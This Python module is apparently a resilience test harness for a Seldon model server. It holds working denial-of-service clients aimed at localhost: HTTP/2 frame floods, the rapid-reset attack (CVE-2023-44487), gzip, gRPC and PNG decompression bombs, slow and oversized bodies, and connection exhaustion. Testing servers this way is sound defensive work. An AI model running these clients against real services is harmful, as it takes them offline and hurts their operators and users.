"""Malicious clients: each attacks a port for a given time, on one connection or on many."""

import base64
import http.client
import json
import resource
import socket
import struct
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, suppress
from functools import cache, partial
from itertools import count, repeat

from hpack import Encoder

HOST = "127.0.0.1"
CONNECT_SECONDS = 10
MEGABYTE = 2**20
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FIELDS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/seldon.protos.Model/Predict"),
    (":authority", "localhost"),
    ("content-type", "application/grpc"),
    ("grpc-encoding", "gzip"),
    ("te", "trailers"),
]
BLOCK = Encoder().encode(FIELDS, huffman=False)
HEAD = b"POST /predict HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
JSON = {"Content-Type": "application/json"}
PING = b"GET /health/ping HTTP/1.1\r\nHost: x\r\n\r\n"

#: Attacks a port for this many seconds; returns whether the server has closed the connection.
Attack = Callable[[int, float], bool]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """An HTTP/2 frame (RFC 9113, 4.1)."""
    head = len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big")
    return head + payload


def send(port: int, seconds: float, parts: Iterator[bytes], *, reads: bool = True) -> bool:
    """Send parts as fast as the server accepts them, until it closes or the time is over.

    Returns whether the server has closed the connection.
    """
    until, is_closed = time.monotonic() + seconds, threading.Event()
    with suppress(OSError), socket.create_connection((HOST, port), CONNECT_SECONDS) as connection:
        connection.settimeout(seconds)
        if reads:
            threading.Thread(target=drain, args=(connection, is_closed), daemon=True).start()
        for part in parts:
            connection.sendall(part)
            if time.monotonic() > until:
                return is_closed.is_set()
        return is_closed.wait(max(until - time.monotonic(), 0))
    return True


def drain(connection: socket.socket, is_closed: threading.Event) -> None:
    """Read and discard all responses; set `is_closed` when the connection ends."""
    try:
        while connection.recv(2**16):
            pass
    except TimeoutError:
        return
    except OSError:  # reset by the server, or closed by `send`
        pass
    is_closed.set()


def flood(kind: int, flags: int, stream: int, payload: bytes, port: int, seconds: float) -> bool:
    """Send frames of one kind repeatedly on an open stream."""

    def parts() -> Iterator[bytes]:
        yield PREFACE + frame(4, 0, 0) + frame(4, 1, 0) + frame(1, 4, 1, BLOCK)
        yield from repeat(frame(kind, flags, stream, payload) * 500)

    return send(port, seconds, parts())


def continuations(port: int, seconds: float) -> bool:
    """Send a header block that never ends."""
    start = PREFACE + frame(4, 0, 0) + frame(1, 0, 1)
    return send(port, seconds, iter([start, *[frame(9, 0, 1) * 500] * 1000]))


def resets(port: int, seconds: float) -> bool:
    """Open streams and reset them at once (CVE-2023-44487)."""

    def parts() -> Iterator[bytes]:
        yield PREFACE + frame(4, 0, 0)
        for first in count(1, 200):
            streams = range(first, first + 200, 2)
            yield b"".join(
                frame(1, 4, stream, BLOCK) + frame(3, 0, stream, bytes(4)) for stream in streams
            )

    return send(port, seconds, parts())


def over_rest(start: bytes, part: bytes, port: int, seconds: float) -> bool:
    """Send `start`, then repeat `part`, over HTTP/1."""

    def parts() -> Iterator[bytes]:
        yield start
        yield from repeat(part)

    return send(port, seconds, parts())


def bodies(size: int, part: bytes, port: int, seconds: float) -> bool:
    """Send a body of `size` bytes as a repeated part."""
    head = HEAD + b"Content-Length: %d\r\n\r\n" % size
    return send(port, seconds, iter([head, *[part] * (size // len(part))]))


@cache
def inflating(megabytes: int) -> bytes:
    """A gzip file of this many megabytes of zeros."""
    packer = zlib.compressobj(9, wbits=16 + zlib.MAX_WBITS)
    return packer.compress(bytes(megabytes * MEGABYTE)) + packer.flush()


def rest_bomb(port: int, seconds: float) -> bool:
    """Send a body that inflates to 300 MB, a gzip file with several members."""
    body = inflating(60) * 5
    head = HEAD + b"Content-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(body)
    return send(port, seconds, iter([head, body]))


def grpc_bomb(port: int, seconds: float) -> bool:
    """Send a compressed message that inflates to 60 MB."""
    packed = inflating(60)
    data = b"\1" + len(packed).to_bytes(4, "big") + packed
    pieces = [data[place : place + 16_000] for place in range(0, len(data), 16_000)]
    frames = [frame(0, 0, 1, piece) for piece in pieces[:-1]] + [frame(0, 1, 1, pieces[-1])]
    start = PREFACE + frame(4, 0, 0) + frame(1, 4, 1, BLOCK)
    return send(port, seconds, iter([start, *frames]))


def unread(port: int, seconds: float) -> bool:
    """Request a response of 8 MB and never read it."""
    body = b'{"strData":"' + b"a" * (8 * MEGABYTE) + b'"}'
    head = HEAD + b"Content-Length: %d\r\n\r\n" % len(body)
    return send(port, seconds, iter([head, body]), reads=False)


def unread_calls(port: int, seconds: float) -> bool:
    """Request a response of 8 MB with a flow-control window of zero."""
    text = b"a" * (8 * MEGABYTE)
    message = b"\x1a" + bytes([128, 128, 128, 4]) + text  # SeldonMessage.strData
    data = b"\0" + len(message).to_bytes(4, "big") + message
    pieces = [data[place : place + 16_000] for place in range(0, len(data), 16_000)]
    frames = [frame(0, 0, 1, piece) for piece in pieces[:-1]] + [frame(0, 1, 1, pieces[-1])]
    start = PREFACE + frame(4, 0, 0, struct.pack(">HI", 4, 0)) + frame(1, 4, 1, BLOCK)
    return send(port, seconds, iter([start, *frames]))


def messages(size: int, port: int, seconds: float) -> bool:
    """Send a message of `size` bytes."""
    start = PREFACE + frame(4, 0, 0) + frame(1, 4, 1, BLOCK)
    first = frame(0, 0, 1, b"\0" + size.to_bytes(4, "big"))
    return send(
        port, seconds, iter([start, first, *[frame(0, 0, 1, bytes(16_000))] * (size // 16_000)])
    )


def without_end(port: int, seconds: float) -> bool:
    """Send a body of 100 MB at ten bytes per second, after its first megabyte."""

    def parts() -> Iterator[bytes]:
        yield HEAD + b"Content-Length: %d\r\n\r\n" % (100 * MEGABYTE) + b"a" * MEGABYTE
        while True:
            time.sleep(0.1)
            yield b"a"

    return send(port, seconds, parts())


@cache
def image_bomb() -> bytes:
    """A message with a PNG of 4096 x 4096 pixels in 50 kB."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        checksum = struct.pack(">I", zlib.crc32(kind + content))
        return struct.pack(">I", len(content)) + kind + content + checksum

    size = 4096
    header = struct.pack(">IIBBBBB", size, size, 8, 2, 0, 0, 0)
    pixels = zlib.compress(bytes(size * (3 * size + 1)), 9)
    parts = chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    return json.dumps({"binData": base64.b64encode(b"\x89PNG\r\n\x1a\n" + parts).decode()}).encode()


def images(port: int, seconds: float) -> bool:
    """Send image bombs one after another."""
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        connection = http.client.HTTPConnection(HOST, port, timeout=seconds)
        with suppress(OSError, http.client.HTTPException):
            connection.request("POST", "/predict", image_bomb(), JSON)
            connection.getresponse().read()
        connection.close()
    return False


def crowd(size: int, port: int, seconds: float) -> bool:
    """Open idle connections, from several addresses because one has too few ports."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    with ExitStack() as stack, suppress(OSError):
        for number in range(size):
            source = f"127.0.0.{2 + number % 8}"
            connection = socket.create_connection((HOST, port), CONNECT_SECONDS, (source, 0))
            stack.enter_context(connection)
        time.sleep(seconds)
        return False
    return True


def many(attack: Attack, times: int, port: int, seconds: float) -> bool:
    """Run an attack with several clients at once."""
    with ThreadPoolExecutor(times) as clients:
        return all(clients.map(attack, [port] * times, [seconds] * times))


CHUNKED = HEAD + b"Transfer-Encoding: chunked\r\n\r\n"
#: Floods on one connection, by name, for the gRPC port and for the REST port.
GRPC_FLOODS: dict[str, Attack] = {
    "pings": partial(flood, 6, 0, 0, b"12345678"),
    "empty data": partial(flood, 0, 0, 1, b""),
    "data of one byte": partial(flood, 0, 0, 1, b"x"),
    "continuations": continuations,
    "settings": partial(flood, 4, 0, 0, b""),
    "window updates": partial(flood, 8, 0, 0, b"\0\0\0\1"),
    "priorities": partial(flood, 2, 0, 1, bytes(4) + b"\1"),
    "unknown frames": partial(flood, 77, 0, 0, b"x"),
    "resets": resets,
}
REST_FLOODS: dict[str, Attack] = {
    "pipelined requests": partial(over_rest, b"", PING * 1000),
    "chunks of one byte": partial(over_rest, CHUNKED, b"1\r\nx\r\n" * 10_000),
    "header fields without end": partial(over_rest, b"GET / HTTP/1.1\r\n", b"a: b\r\n" * 100),
}
#: Floods that violate a limit of the protocol, so that the server must close the connection.
SENT_AWAY = {*GRPC_FLOODS, "header fields without end"}
#: Attacks on the memory, by name, for the REST port and for the gRPC port.
REST_HOGS: dict[str, Attack] = {
    "100 bodies of 200 MB": partial(many, partial(bodies, 200 * MEGABYTE, b"a" * MEGABYTE), 100),
    "100 bodies without end": partial(many, without_end, 100),
    "bodies of empty lists": partial(many, partial(bodies, 60 * MEGABYTE, b"[]," * 2**18), 4),
    "REST bombs": partial(many, rest_bomb, 8),
    "unread answers": partial(many, unread, 40),
    "10,000 idle connections": partial(crowd, 10_000),
    "image bombs": partial(many, images, 100),
}
GRPC_HOGS: dict[str, Attack] = {
    "gRPC bombs": partial(many, grpc_bomb, 20),
    "100 messages of 60 MB": partial(many, partial(messages, 60 * MEGABYTE), 100),
    "100 messages of 200 MB": partial(many, partial(messages, 200 * MEGABYTE), 100),
    "unread calls": partial(many, unread_calls, 40),
    "10,000 idle, gRPC": partial(crowd, 10_000),
}
